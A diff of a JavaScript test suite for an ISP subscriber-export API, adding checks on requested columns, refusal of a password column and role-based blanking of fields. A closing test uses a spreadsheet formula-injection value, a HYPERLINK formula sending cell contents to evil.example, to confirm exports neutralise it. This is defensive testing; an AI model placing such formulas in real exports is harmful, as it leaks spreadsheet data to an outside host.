@@ -52,6 +52,21 @@ describe('an export', () => {
     expect(ids).toEqual([...new Set(ids)].sort((a, b) => a - b));
   });
 
+  it('has the columns that are asked for, in that order', async () => {
+    const { lines } = await take('subscriber', { columns: 'status,username', username: tenant.username });
+    expect(lines).toEqual(['\uFEFFstatus,username', expect.stringMatching(new RegExp(`,${tenant.username}$`))]);
+    expect(await api.call('subscriber/export', { columns: 'password_enc' }, tenant.me)).toMatchObject({ status: 400 });
+  });
+
+  it('shows nothing that its caller could not read in the list', async () => {
+    const { ispid, me, username } = tenant;
+    const network = await makeUser(api, me, { ispid, roles: 'Network' });
+    const columns = { columns: 'username,customername,mobile' };
+    expect((await take('subscriber', { ...columns, username })).lines[1]).toBe(`${username},Ravi,9800000001`);
+    expect((await take('subscriber', { ...columns, username }, network)).lines[1]).toBe(`${username},,`);
+    expect(await api.call('subscriber/export', { mobile: '9800000001' }, network)).toMatchObject({ status: 403 });
+  });
+
   it('shows a text that a spreadsheet would execute with an apostrophe', async () => {
     const name = '=HYPERLINK("http://evil.example?x="&A1)';
     await api.ok('customer/create', { ...customerFields, resellerid: tenant.resellerid, name }, tenant.me);
